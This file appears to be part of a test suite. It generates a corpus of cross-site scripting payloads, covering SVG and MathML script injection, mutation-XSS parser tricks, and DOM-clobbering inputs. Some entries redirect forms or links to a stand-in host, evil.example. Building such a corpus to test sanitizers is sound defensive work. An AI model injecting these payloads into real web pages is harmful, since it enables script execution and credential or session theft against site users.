"""What changes its meaning when it is parsed again: SVG, MathML, raw text, names that cover the page's own."""

from __future__ import annotations

from tests.gates.xss_corpus.elements import SCRIPT


def svg() -> list[str]:
    return [
        f"<svg><script>{SCRIPT}</script></svg>",
        f"<svg><script href=data:,{SCRIPT} /></svg>",
        f"<svg><script xlink:href=data:,{SCRIPT}></script></svg>",
        "<svg><script>&#97;lert(1)</script></svg>",
        f"<svg><g onload={SCRIPT}></g></svg>",
        f"<svg><a href=javascript:{SCRIPT}><text y=20>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{SCRIPT} /><text y=20>x</text></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{SCRIPT} /><text y=20>x</text></a></svg>",
        f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
        f"<svg><animatetransform onbegin={SCRIPT}>",
        f"<svg><set onbegin={SCRIPT} attributename=x>",
        f"<svg><discard onbegin={SCRIPT}>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='{SCRIPT}'/></svg>#x\"></use></svg>",
        f"<svg><image href=x onerror={SCRIPT} /></svg>",
        f"<svg><image xlink:href=javascript:{SCRIPT} /></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{SCRIPT}</script>'></iframe></foreignObject></svg>",
        f"<svg><foreignObject><body onload={SCRIPT}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={SCRIPT}></style></svg>",
        f"<svg><style>{{}}*{{xss:expression({SCRIPT})}}</style></svg>",
        f"<svg><title><img src=x onerror={SCRIPT}></title></svg>",
        f"<svg><desc><img src=x onerror={SCRIPT}></desc></svg>",
        f"<svg><![CDATA[><img src=x onerror={SCRIPT}>]]></svg>",
        f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">',
        f'<svg><p><style><a title="</style><img src onerror={SCRIPT}>">',
        f"<svg><handler type=text/javascript ev:event=load>{SCRIPT}</handler></svg>",
        f"<svg xmlns=http://www.w3.org/2000/svg onload={SCRIPT} />",
        f"<svg/onload={SCRIPT}//",
        f"<svg\nonload\n=\n{SCRIPT}\n>",
        f"<svg id={SCRIPT} onload=eval(id)>",
        f"<svg><filter><feImage xlink:href=javascript:{SCRIPT} /></filter></svg>",
        f"<svg><a xml:base=javascript:{SCRIPT}// href=#>x</a></svg>",
        f"<svg><switch><foreignObject><img src=x onerror={SCRIPT}></foreignObject></switch></svg>",
        f"<image src=x onerror={SCRIPT}>",
        f"<svg><font><img src=x onerror={SCRIPT}>",
        f"<svg><mi><img src=x onerror={SCRIPT}>",
    ]


def mathml() -> list[str]:
    return [
        f"<math><mtext><script>{SCRIPT}</script></mtext></math>",
        f"<math><mi onclick={SCRIPT}>x</mi></math>",
        f"<math><mi href=javascript:{SCRIPT}>x</mi></math>",
        f"<math href=javascript:{SCRIPT}>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{SCRIPT}>x<mtext>y</mtext></maction></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={SCRIPT}></annotation-xml></math>",
        f"<math><annotation-xml encoding=application/xhtml+xml><script>{SCRIPT}</script></annotation-xml></math>",
        f"<math><annotation-xml><svg onload={SCRIPT}></annotation-xml></math>",
        f"<math><semantics><annotation encoding=text/html><img src=x onerror={SCRIPT}></annotation></semantics></math>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
        f"<math><mtext><table><mglyph><style><math><img src onerror={SCRIPT}>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
        f"<math><mtext><mglyph><style><img src=x onerror={SCRIPT}></style></mglyph></mtext></math>",
        f"<math><mtext><malignmark><style><img src=x onerror={SCRIPT}></style>",
        f"<math><mi><style><img src=x onerror={SCRIPT}></style></mi></math>",
        f"<math><style><img src=x onerror={SCRIPT}></style></math>",
        f"<math><mo><xmp><img src=x onerror={SCRIPT}></xmp></mo></math>",
        f"<math><mtext><noscript><img src=x onerror={SCRIPT}></noscript></mtext></math>",
        f"<math><mtext><p><style><!--</style><img src=x onerror={SCRIPT}>--></p></mtext></math>",
        f"<math><![CDATA[<img src=x onerror={SCRIPT}>]]></math>",
        f"<math><![CDATA[</math><img src=x onerror={SCRIPT}>]]>",
        f"<math><mtext></math><img src=x onerror={SCRIPT}>",
        f"<math><p><img src=x onerror={SCRIPT}></math>",
        f"<math><!--</math><img src=x onerror={SCRIPT}>--></math>",
        f"<math><mn style=background:url(javascript:{SCRIPT})>1</mn></math>",
        "<math><mrow id=location name=forms>x</mrow></math>",
        f"<math><msup><mi>x</mi><mn><iframe src=javascript:{SCRIPT}></iframe></mn></msup></math>",
        f"<math><mtable><mtr><mtd><table><td><img src=x onerror={SCRIPT}></table></mtd></mtr></mtable></math>",
        f"<math><ms lquote='<img src=x onerror={SCRIPT}>'>x</ms><img src=x onerror={SCRIPT}></math>",
        f"<math xmlns=http://www.w3.org/1999/xhtml><script>{SCRIPT}</script></math>",
        f"<math><a xlink:href=javascript:{SCRIPT}>x</a></math>",
        f"<math><font color=x><img src=x onerror={SCRIPT}></font></math>",
        f"<math><mi><font><img src=x onerror={SCRIPT}>",
        f"<math><mtext><a><table><a><math><mi><style><img src=x onerror={SCRIPT}>",
    ]


def mutations() -> list[str]:
    image = f"<img src=x onerror={SCRIPT}>"
    raw_text = (
        "noscript",
        "style",
        "xmp",
        "noembed",
        "noframes",
        "iframe",
        "title",
        "textarea",
        "template",
        "plaintext",
    )
    out = []
    for name in raw_text:
        out.append(f'<{name}><p title="</{name}>{image}">')
        out.append(f"<{name}>{image}</{name}>")
        out.append(f"<{name}><!--</{name}>{image}--></{name}>")
        out.append(f'<svg><{name}><a title="</{name}>{image}">')
        out.append(f'<math><mtext><{name}><b title="</{name}>{image}">')
    out += [
        f"<!--><img src=x onerror={SCRIPT}>-->",
        f"<!---><img src=x onerror={SCRIPT}>-->",
        f"<!----><img src=x onerror={SCRIPT}>",
        f"<!-- --!><img src=x onerror={SCRIPT}>-->",
        f"<!-- <!-- --><img src=x onerror={SCRIPT}>-->",
        f"<!--[if IE]><script>{SCRIPT}</script><![endif]-->",
        f"<![if true]><img src=x onerror={SCRIPT}><![endif]>",
        f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
        f"<![CDATA[--><img src=x onerror={SCRIPT}>",
        f"<?xml version=1.0?><img src=x onerror={SCRIPT}>",
        f"<?php ?><img src=x onerror={SCRIPT}>",
        f'<!DOCTYPE x [<!ENTITY y "<img src=x onerror={SCRIPT}>">]>&y;',
        f"<!x title='>'><img src=x onerror={SCRIPT}>",
        f"</br title='>'><img src=x onerror={SCRIPT}>",
        f"<select><style></select><img src=x onerror={SCRIPT}></style>",
        f"<select><template><style></select><img src=x onerror={SCRIPT}>",
        f"<select><option><xmp></select><img src=x onerror={SCRIPT}></xmp>",
        f"<table><style></table><img src=x onerror={SCRIPT}></style>",
        f"<table><td><svg><td><style><img src=x onerror={SCRIPT}>",
        f"<table><caption><svg><table><style><img src=x onerror={SCRIPT}>",
        f"<table><tr><img src=x onerror={SCRIPT}></tr></table>",
        f"<table><a href=javascript:{SCRIPT}>x<td></a></table>",
        f"<a><table><a onclick={SCRIPT}>x</table></a>",
        f"<p><a><p onclick={SCRIPT}>x</a></p>",
        f"<b><p><i onclick={SCRIPT}></b>x</i></p>",
        f"<frameset><frame src=javascript:{SCRIPT}></frameset>",
        f"<button><button onclick={SCRIPT}>x</button></button>",
        f"<form id=a><form><input onfocus={SCRIPT} autofocus></form></form>",
        f"<option><style></option></select><img src=x onerror={SCRIPT}></style>",
        f"<listing>&lt;img src=x onerror={SCRIPT}&gt;</listing><img src=x onerror={SCRIPT}>",
        f"<pre>\n<img src=x onerror={SCRIPT}></pre>",
        f"<nobr><nobr onclick={SCRIPT}><nobr>x",
        f"<ruby><rtc><rt onclick={SCRIPT}>x",
        f"<div><div><div><svg><desc><table><desc onclick={SCRIPT}>",
        "<x" * 50 + f" onclick={SCRIPT}>" * 3,
        "<b>" * 120 + f"<img src=x onerror={SCRIPT}>",
        "<p title=1><b title=2>" * 15 + f"<i onclick={SCRIPT}>",
        f"<isindex type=image src=x onerror={SCRIPT}>",
        f'<a title="`<b onclick={SCRIPT}>`"><b onclick={SCRIPT}>x',
        f'<img alt="`><script>{SCRIPT}</script>"src=x:x onerror={SCRIPT}>',
        f'<div title="&quot;><img src=x onerror={SCRIPT}>"></div><q onclick={SCRIPT}>',
    ]
    return out


def clobbering() -> list[str]:
    names = (
        "location",
        "document",
        "forms",
        "cookie",
        "body",
        "__proto__",
        "constructor",
        "csrfmiddlewaretoken",
        "htmx",
    )
    out = [f"<b id={name}>x</b>" for name in names]
    out += [f"<img name={name} src=x>" for name in names]
    out += [
        "<a id=x><a id=x name=y href=https://evil.example>x</a></a>",
        "<form id=config><input name=url value=//evil.example></form>",
        "<form name=body><input name=firstChild></form>",
        "<b id='user-content'>x</b>",
        "<b id=' user-content-x'>x</b>",
        "<b id=USER-CONTENT-X>x</b>",
        "<b id='x' id='user-content-x'>x</b>",
        "<h2 id=main>x</h2>",
        "<b id='a b'>x</b>",
        "<b id='\"><img src=x onerror=alert(1)>'>x</b>",
        "<b id=&#108;ocation>x</b>",
        "<label for=id_password>x</label>",
        "<input form=login name=next value=//evil.example>",
        "<button form=login formaction=//evil.example>x</button>",
        "<output id=x name=y>z</output>",
        "<iframe name=location src=about:blank></iframe>",
        "<object id=location data=about:blank></object>",
        "<embed name=location src=about:blank>",
    ]
    return out
